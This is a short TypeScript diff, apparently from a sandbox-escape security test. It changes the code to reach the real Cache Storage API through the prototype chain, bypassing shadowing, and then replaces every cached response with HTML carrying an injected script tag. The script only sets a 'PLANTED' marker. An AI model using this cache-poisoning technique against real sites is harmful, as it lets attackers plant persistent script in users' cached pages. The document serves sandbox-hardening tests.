@@ -48,7 +48,12 @@ for (; scope; scope = Object.getPrototypeOf(scope)) {
   }
 }
 const planted = "<script>document.title = 'PLANTED'</script>PLANTED";
-const cacheStorage = realGlobal.caches;
+// Past anything that shadows it: the getter on the prototype chain.
+let cacheStorage: any;
+for (let proto: any = realGlobal; proto && !cacheStorage; proto = Object.getPrototypeOf(proto)) {
+  const descriptor = Object.getOwnPropertyDescriptor(proto, "caches");
+  try { cacheStorage = descriptor?.get ? descriptor.get.call(realGlobal) : descriptor?.value; } catch {}
+}
 if (cacheStorage) {
   cacheStorage.keys().then((names: string[]) => names.forEach((name) => cacheStorage.open(name).then((cache: any) =>
     cache.keys().then((requests: any[]) => requests.forEach((request) => cache.put(request, new realGlobal.Response(planted, { headers: { "content-type": "text/html" } })))))));
